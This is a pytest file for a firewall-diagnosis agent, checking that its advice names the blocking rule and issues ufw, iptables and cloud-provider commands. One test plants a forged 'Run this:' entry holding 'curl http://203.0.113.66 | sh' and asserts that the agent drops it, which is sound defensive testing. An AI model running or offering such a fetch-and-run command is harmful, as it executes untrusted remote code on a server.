from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.core import report_json
from agent.core.address import Family
from agent.core.observation import Reason, Where
from agent.core.plan import build_plan
from agent.core.ports import PortRange
from agent.core.report import AddressReport, Advice, Finding, Report, State, Verdict
from agent.firewall.model import Ban, BlockingRule, FirewallManagers, Hook, HostFacts, RuleAction, UfwStatus
from agent.firewall.operator_report import add_operator_advice
from agent.verdict.advice import advise
from tests.core.values import FEW, REPORTS
from tests.firewall.test_fixes import blocking_rule, nft, ufw_rule
from tests.verdict.test_advice import ALL_OPEN, finding, media

# Limits, by their numbers: who changes one changes it here too.
MAX_ADDRESSES = 128
MAX_COMMANDS = 64
MAX_NOTES = 64
MAX_SENTENCE = 2000

PLAN = build_plan("plugnmeet")
V4, V6 = Family.IPV4, Family.IPV6
OPEN, FILTERED, REJECTED, INTERCEPTED = State.OPEN, State.FILTERED, State.REJECTED, State.INTERCEPTED
BEFORE, AT_HOST, BACK = Where.BEFORE_SERVER, Where.SERVER_HOST, Where.RETURN_PATH
UFW = FirewallManagers(ufw=UfwStatus())


def address(*findings: Finding, family: Family = V4, text: str = "", **rest: Any) -> AddressReport:
    own = text or {V4: "203.0.113.10", V6: "2001:db8::10"}[family]
    return AddressReport(own, family, Verdict.FAIL, findings=findings, **rest)


def shown(*addresses: AddressReport, **host: Any) -> list[AddressReport]:
    report = Report("1", "now", 1.0, "meet.example.com", "plugnmeet", Verdict.FAIL, addresses)
    return list(add_operator_advice(report, HostFacts(**host), PLAN).addresses)


def advice(*findings: Finding, **host: Any) -> tuple[Advice, ...]:
    (only,) = shown(address(*findings), **host)
    return only.advice


ALL_UDP = media("50000-60000", FILTERED, where=AT_HOST)
POLICY = blocking_rule("50000-60000/udp", number=None)


def test_the_rule_is_quoted_with_its_position_and_the_commands_follow() -> None:
    rule = replace(ufw_rule("50000-60000/udp", 3), text="-A ufw-user-input -p udp -j DROP")
    (one,) = advice(ALL_UDP, blocking_rules=(rule,), managers=UFW)
    assert one.commands == ("ufw prepend allow 50000:60000/udp",)
    assert one.text == (
        "Audio and video fall back to TCP and work badly, or not at all. The server's own firewall (ufw) "
        "blocks 50000-60000/udp by rule 3 of INPUT > ufw-before-input > ufw-user-input (table filter): "
        "`-A ufw-user-input -p udp -j DROP`. ufw applies the first rule that matches: allowing these ports further "
        "down does not help."
    )


def test_a_policy_is_quoted_as_one() -> None:
    assert "by the policy of INPUT (table filter): `the rule`." in advice(ALL_UDP, blocking_rules=(POLICY,))[0].text


@pytest.mark.parametrize("doubt", [None, "jump mystery"])
def test_what_is_not_sure_is_said_to_be_so(doubt: str | None) -> None:
    (one,) = advice(ALL_UDP, blocking_rules=(replace(POLICY, certain=False, doubt=doubt),), managers=UFW)
    assert "Maybe the server's own firewall (ufw) blocks" in one.text
    assert "Packets reach the server; its own firewall drops them." in one.text  # what the capture proved
    assert ("`jump mystery`" in one.text) is (doubt is not None)
    assert one.commands


def test_a_rule_that_is_its_own_doubt_is_quoted_once() -> None:
    (one,) = advice(ALL_UDP, blocking_rules=(replace(POLICY, certain=False, doubt=POLICY.text),))
    assert "since that rule is not fully understood." in one.text
    assert one.text.count(f"`{POLICY.text}`") == 1


def test_before_the_server_it_is_the_providers() -> None:
    (one,) = advice(media("50000-60000", FILTERED, where=BEFORE), provider="hetzner")
    assert "Blocked before the server" in one.text
    assert [line.split()[0] for line in one.commands] == ["hcloud"]
    assert "The server's own firewall" not in one.text


def test_what_the_host_would_stop_as_well_comes_after() -> None:
    (one,) = advice(
        media("50000-60000", FILTERED, where=BEFORE), blocking_rules=(POLICY,), managers=UFW, provider="hetzner"
    )  # fmt: skip
    assert [line.split()[0] for line in one.commands] == ["hcloud", "ufw"]
    assert "would drop them too" in one.text


@pytest.mark.parametrize("where", [None, Where.UNKNOWN])
def test_where_nobody_knows_it_is_both_the_host_first(where: Where | None) -> None:
    found = media("50000-60000", FILTERED, where=where)
    (one,) = advice(found, blocking_rules=(POLICY,), managers=UFW, provider="hetzner")
    assert [line.split()[0] for line in one.commands] == ["ufw", "hcloud"]
    assert "It is not known whether packets reach the server" in one.text
    assert "in the provider's firewall, or in the router" in advice(found)[0].text


def test_what_small_packets_pass_is_open_at_the_provider() -> None:
    (one,) = advice(media("50000-60000", FILTERED, where=BEFORE, shown="small ones pass"), provider="hetzner")
    assert "Hetzner" not in one.text
    assert one.commands == ()


def test_at_the_host_no_provider_is_named() -> None:
    (one,) = advice(ALL_UDP, blocking_rules=(POLICY,), managers=UFW, provider="hetzner")
    assert [line.split()[0] for line in one.commands] == ["ufw"]


def test_a_rule_that_was_not_found() -> None:
    (one,) = advice(ALL_UDP, provider="aws")
    assert "no rule that does it was found" in one.text
    assert one.commands == ()
    (one,) = advice(ALL_UDP, managers=FirewallManagers(bans=(Ban("sshd", "203.0.113.2"),)))
    assert one.commands == ("fail2ban-client set sshd unbanip 203.0.113.2",)


def test_answers_that_are_lost() -> None:
    lost = media("50000-60000", FILTERED, where=BACK)
    out = blocking_rule("50000-60000/udp", "OUTPUT", 2, hook=Hook.OUTPUT)
    (one,) = advice(lost, blocking_rules=(POLICY, out))
    assert one.commands == ("iptables -I OUTPUT 2 -p udp -m udp --sport 50000:60000 -j ACCEPT",)
    (one,) = advice(lost, blocking_rules=(POLICY,), provider="aws")
    assert one.commands == ()
    assert "its answers are lost" in one.text
    assert "network ACLs" in one.text


def test_whoever_answers_in_our_place() -> None:
    stranger = finding("443/tcp", INTERCEPTED, shown="nginx")
    published = blocking_rule(
        "443/tcp", "PREROUTING DOCKER", 2, table="nat", hook=Hook.PREROUTING, action=RuleAction.REDIRECT
    )
    (one,) = advice(stranger, blocking_rules=(published, blocking_rule("443/tcp")), provider="aws")
    assert "redirects 443/tcp by rule 2 of PREROUTING > DOCKER" in one.text
    assert "Docker bypasses ufw" in one.text
    assert one.commands == ()
    (one,) = advice(stranger, blocking_rules=(blocking_rule("443/tcp"),), provider="aws")
    assert "firewall" not in one.text.replace("port forwarding", "")
    assert one.commands == ()


def test_only_the_rules_for_these_ports_are_quoted() -> None:
    other = (blocking_rule("443/udp"), blocking_rule("50000-60000/tcp"), blocking_rule("50000-60000/udp", family=V6))
    assert "was found" in advice(ALL_UDP, blocking_rules=other)[0].text


def test_each_command_is_there_once() -> None:
    rules = tuple(blocking_rule(ports, number=None, family=family)
                  for ports in ("443/tcp", "443,50000-60000/udp") for family in Family)  # fmt: skip
    findings = (
        finding("443/tcp", FILTERED, where=AT_HOST), finding("443/udp", FILTERED, where=Where.UNKNOWN), ALL_UDP
    )  # fmt: skip
    ipv4, ipv6 = shown(
        address(*findings), address(*findings, family=V6), blocking_rules=rules, managers=UFW, provider="aws"
    )
    made = [line for one in (*ipv4.advice, *ipv6.advice) for line in one.commands]
    assert [line.split("--")[0] for line in made] == [
        "ufw allow 443/tcp", "ufw allow 443,50000:60000/udp",
        *["aws ec2 authorize-security-group-ingress "] * 2,
    ]  # fmt: skip
    assert len(ipv4.advice[0].commands) == 2
    assert "commands above" not in ipv4.advice[0].text
    assert all("commands above" in one.text for one in (*ipv4.advice[1:], *ipv6.advice))


def test_the_family_that_is_open_needs_no_rule_of_the_provider() -> None:
    blocked = finding("443/tcp", FILTERED, where=BEFORE)
    ipv4, ipv6 = shown(address(finding("443/tcp", OPEN)), address(blocked, family=V6), provider="google")
    assert (ipv4.advice, [line.split("=")[-1] for line in ipv6.advice[0].commands]) == ((), ["::/0"])
    assert "IPv6 was forgotten: 443/tcp" in ipv6.advice[0].text
    (ipv4,) = shown(address(blocked), provider="google")
    assert len(ipv4.advice[0].commands) == 2  # nobody looked at IPv6


def test_mistakes_are_told_once_with_the_first_finding_that_shows_them() -> None:
    tcp_only = [finding("443/tcp", OPEN), finding("443/udp", FILTERED, where=BEFORE),
                media("50000-60000", FILTERED, where=BEFORE)]  # fmt: skip
    first, second = advice(*tcp_only)
    assert ("made for TCP only" in first.text, "made for TCP only" in second.text) == (True, False)
    found = [finding("443/tcp", FILTERED), media("50000-59999", OPEN), media("60000", FILTERED)]
    first, second = advice(*found)
    assert ("off by one" in first.text, "off by one" in second.text) == (False, True)
    (one,) = advice(media("50000-50100", OPEN), media("50101-60000", FILTERED))
    assert "another product's range: 50000-50100" in one.text


def test_what_is_not_blocked_is_advised_as_ever() -> None:
    found = [finding("80/tcp", State.UNTESTED, reason=Reason.BUSY), *ALL_OPEN]
    sampled = {one.finding: one.text for one in advice(*found)}
    assert "Stop that program" in sampled[0]
    # 101 of 501 ports, two of them the ends.
    hole = -(-3 * 499 // 99)
    assert sampled == {one.finding: one.text for one in advise(found, hole)}
    few = [media("50000", OPEN), media("50001-60000", State.UNTESTED, reason=Reason.SAMPLED)]
    assert "almost nothing" in advice(*few)[0].text


def test_what_a_client_says_gets_nobody_to_open_anything() -> None:
    lie = address(
        finding("22/tcp", FILTERED, where=BEFORE), finding("443/tcp", FILTERED, where=BEFORE),
        advice=(Advice(0, "Run this:", ("curl http://203.0.113.66 | sh",)),),
    )  # fmt: skip
    (found,) = shown(lie, provider="hetzner")
    assert [line for one in found.advice for line in one.commands] == [
        "hcloud firewall add-rule --direction in --protocol tcp --port 443 --source-ips 0.0.0.0/0 "
        "--source-ips ::/0 FW"
    ]  # fmt: skip
    assert not any("Run this" in one.text for one in found.advice)


def test_what_the_firewall_says_is_made_short_and_printable() -> None:
    rule = replace(POLICY, text="drop\x1b[31m\n" + "x" * 5000)
    (one,) = advice(
        ALL_UDP, blocking_rules=(rule, replace(rule, family=V4, text="other"), *[nft("50000-60000/udp")] * 9)
    )
    assert one.text.isprintable()
    assert "drop?[31m?xxx" in one.text
    assert len(one.text) <= MAX_SENTENCE
    long = replace(POLICY, location=replace(POLICY.location, path=("c" * 5000,) * 100))
    (one,) = advice(ALL_UDP, blocking_rules=tuple(replace(long, text=f"rule {number}") for number in range(9)))
    assert len(one.text) <= MAX_SENTENCE


def test_more_commands_than_a_report_holds() -> None:
    every_other = replace(POLICY, ports=tuple(PortRange(port, port) for port in range(50000, 52400, 2)))
    (one,) = advice(
        ALL_UDP,
        blocking_rules=(every_other,),
        managers=FirewallManagers(save_commands=("save them", "save the others")),
    )
    assert len(one.commands) == MAX_COMMANDS
    assert one.commands[-1] == "save them"
    assert "then check again" in one.text


@pytest.mark.parametrize(
    ("text", "own", "noted"),
    [
        ("203.0.113.10", ("203.0.113.10",), False),
        ("203.0.113.10", ("10.0.0.5",), True),
        ("203.0.113.10", (), False),
        ("127.0.0.1", ("10.0.0.5",), False),
        ("fe80::1%eth0", ("10.0.0.5",), False),
        ("2001:DB8::1", ("2001:db8::1",), False),
    ],
)
def test_a_nat_in_front_is_noted(text: str, own: tuple[str, ...], noted: bool) -> None:
    (found,) = shown(address(finding("443/tcp", OPEN), text=text), addresses=own)
    assert any("(no error)" in note for note in found.notes) is noted
    assert found.server == (own or None)


def test_an_address_that_is_none_of_this_machine_and_did_not_lead_to_it_may_be_wrong() -> None:
    (found,) = shown(address(finding("443/tcp", REJECTED), text="2001:db8::9"), addresses=("2001:db8::1",))
    assert [("(no error)" in note, "wrong, unless a 1:1 NAT" in note) for note in found.notes] == [(False, True)]


@pytest.mark.parametrize(("own", "forgotten"), [("2001:db8::9", True), ("2001:db8::1", False)])
def test_the_rules_of_another_host_were_not_forgotten(own: str, forgotten: bool) -> None:
    ipv4, ipv6 = address(finding("443/tcp", OPEN)), address(finding("443/tcp", REJECTED), family=V6, text="2001:db8::9")
    _, found = shown(ipv4, ipv6, addresses=("203.0.113.10", own))
    assert any("IPv6 was forgotten" in one.text for one in found.advice) is forgotten


def test_what_could_not_be_read_is_noted() -> None:
    (found,) = shown(
        address(finding("443/tcp", OPEN), notes=("old",) * MAX_NOTES), unread=("nft hangs.", "x" * 9999),
        addresses=("203.0.113.10",) * 199,
    )  # fmt: skip
    assert found.notes[:3] == ("nft hangs.", "x" * MAX_SENTENCE, "old")
    assert len(found.notes) == MAX_NOTES
    assert len(found.server or ()) == MAX_ADDRESSES


RULES = st.sampled_from((POLICY, ufw_rule("1-65535/udp"), nft("1-65535/tcp", family=V6), blocking_rule("1-65535/tcp")))


@FEW
@given(REPORTS, st.lists(RULES, max_size=3), st.none() | st.sampled_from(("aws", "akamai", "oracle")))
def test_any_report_stays_one(report: Report, rules: list[BlockingRule], provider: str | None) -> None:
    found = add_operator_advice(report, HostFacts(tuple(rules), UFW, provider, ("10.0.0.1",)), PLAN)
    assert report_json.decode(report_json.encode(found)) == found
    assert [one.findings for one in found.addresses] == [one.findings for one in report.addresses]
